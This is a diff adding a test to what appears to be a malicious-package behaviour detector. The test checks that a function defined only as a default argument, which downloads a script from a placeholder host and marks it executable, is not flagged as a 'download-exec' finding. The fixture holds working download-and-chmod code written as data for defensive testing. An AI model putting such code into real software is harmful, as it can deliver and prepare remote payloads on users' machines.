@@ -127,3 +127,17 @@ def test_other_roles_are_not_wanted() -> None:
     detector = BehaviorDetector()
     assert not detector.wants(FileView(path="x.pth", role=FileRole.PTH, data=b"import os\n"))
     assert not detector.wants(FileView(path="x.txt", role=FileRole.OTHER, data=b"exec(1)\n"))
+
+
+def test_a_function_named_as_a_default_value_does_not_run_on_import() -> None:
+    text = (
+        "import os\nimport urllib.request\n\n\n"
+        "def fetch(path):\n"
+        "    urllib.request.urlretrieve('https://tools.example.invalid/t.pl', path)\n"
+        "    os.chmod(path, 0o755)\n\n\n"
+        "def render(data, fetch=fetch):\n"
+        "    return fetch(data)\n"
+    )
+    view = FileView(path="pkg/viz.py", role=FileRole.PYTHON, data=text.encode())
+    rules = {f.rule for f in BehaviorDetector().scan(view)}
+    assert "download-exec" not in rules
